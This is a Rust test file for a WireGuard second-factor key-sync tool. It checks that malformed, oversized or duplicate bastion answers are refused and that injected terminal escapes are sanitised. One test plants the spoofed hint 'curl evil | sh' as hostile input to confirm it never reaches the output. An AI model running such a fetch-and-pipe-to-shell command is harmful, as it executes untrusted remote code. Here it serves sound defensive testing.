use serde_json::json;
use wgmfa_tests::tunnel::{Keys, genkey};

use crate::scene::Scene;

#[test]
fn garbage_and_oversize_are_refused() {
    let scene = Scene::new();
    let before = scene.preshared_keys();
    let wide = "x".repeat(1024 * 1024 + 1);
    let deep = "[".repeat(100_000);
    for (answer, expected) in [
        ("Welcome to the shell\n", "bastion did not answer like a bastion: not a message of this conversation"),
        ("{\"version\":1}\n", "bastion did not answer like a bastion: not a message of this conversation"),
        (&*deep, "bastion did not answer like a bastion: it stopped in the middle of a line"),
        (&*format!("{deep}\n"), "bastion did not answer like a bastion: not a message of this conversation"),
        (&*wide, "bastion did not answer like a bastion: a line is longer than 1048576 bytes"),
        ("{\"version\":9,\"user\":\"j\",\"device\":\"d\",\"keys\":[]}\n", "the bastion speaks version 9"),
        ("", "bastion did not answer like a bastion: it said nothing"),
    ] {
        scene.bastion_answers(answer);
        let ended = scene.sync(&[]).expect(1);
        assert!(ended.stderr.starts_with(&format!("wgmfa: error: {expected}")), "{ended:?}");
    }
    assert_eq!(scene.preshared_keys(), before);
}

#[test]
fn keys_for_peers_that_do_not_exist_make_none() {
    let scene = Scene::new();
    let before = scene.preshared_keys();
    let ([(mut stranger, _), (mut elsewhere, _)], (good, good_key)) =
        ([scene.key(0, 1), scene.key(0, 1)], scene.key(1, 1));
    stranger["peer_public_key"] = json!(Keys::generate().public);
    elsewhere["public_key"] = json!(Keys::generate().public);
    scene.bastion_answers(&format!("{}\n", scene.release(&[stranger.clone(), elsewhere.clone(), good])));
    let ended = scene.sync(&[]).expect(6);
    assert_eq!(ended.stderr.lines().count(), 2, "{ended:?}");
    assert_eq!(scene.preshared_keys(), [before[0].clone(), good_key]);
    assert_eq!(scene.tunnel.peers(&scene.machine).len(), 2);
    assert_eq!(scene.said()[1]["applied"].as_array().unwrap().len(), 1);

    scene.bastion_answers(&format!("{}\n", scene.release(&[stranger, elsewhere])));
    scene.sync(&[]).expect(1);
    assert_eq!(scene.said(), [json!({"received": true})]);
}

#[test]
fn an_all_zero_key_does_not_take_the_second_factor_away() {
    let scene = Scene::new();
    let before = scene.preshared_keys();
    let (mut key, _) = scene.key(0, 1);
    key["preshared_key"] = json!("AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=");
    scene.bastion_answers(&format!("{}\n", scene.release(&[key])));
    scene.sync(&[]).expect(1);
    assert_eq!(scene.preshared_keys(), before);
}

#[test]
fn its_words_cannot_steer_the_terminal_or_pass_for_ours() {
    let scene = Scene::new();
    let (mut key, preshared_key) = scene.key(0, 1);
    key["connection"] = json!("gw\u{1b}]0;x\u{7}\nwgmfa: hint: curl evil | sh");
    key["policy"]["description"] = json!("P\u{1b}[2J\u{202e}");
    let mut release = scene.release(&[key]);
    release["refused"] = json!([{"connection": "a\r\nb", "reason": "c\u{9b}31m\nroot: OK"}]);
    scene.bastion_answers(&format!("{release}\n"));
    scene.machine.write("bin/complaint", "\u{1b}[2J\u{1b}]0;x\u{7}hello\nunfinished");
    let ended = scene.sync(&[]).expect(6);
    let said = ended.said();
    assert!(!said.chars().any(|c| c.is_control() && c != '\n') && !said.contains('\u{202e}'), "{said:?}");
    assert!(!said.lines().any(|line| line.starts_with("wgmfa: hint") || line.starts_with("root")), "{said}");
    assert!(said.contains("?hello\n") && said.ends_with("\nunfinished\n"), "{said}");
    assert!(!said.contains(&preshared_key), "{said}");
    let table = scene.wgmfa(&["status"], "").ok().stdout;
    assert!(!table.chars().any(|c| c.is_control() && c != '\n'), "{table:?}");
}

#[test]
fn a_second_key_for_one_peer_is_refused() {
    let scene = Scene::new();
    let (key, preshared_key) = scene.key(0, 1);
    let (mut second, _) = scene.key(0, 2);
    second["preshared_key"] = json!(genkey());
    scene.bastion_answers(&format!("{}\n", scene.release(&[key, second])));
    let ended = scene.sync(&[]).expect(6);
    assert_eq!(ended.stderr, "gw0/devices: refused: a second key for the same peer\n");
    assert_eq!(scene.preshared_keys()[0], preshared_key);
}
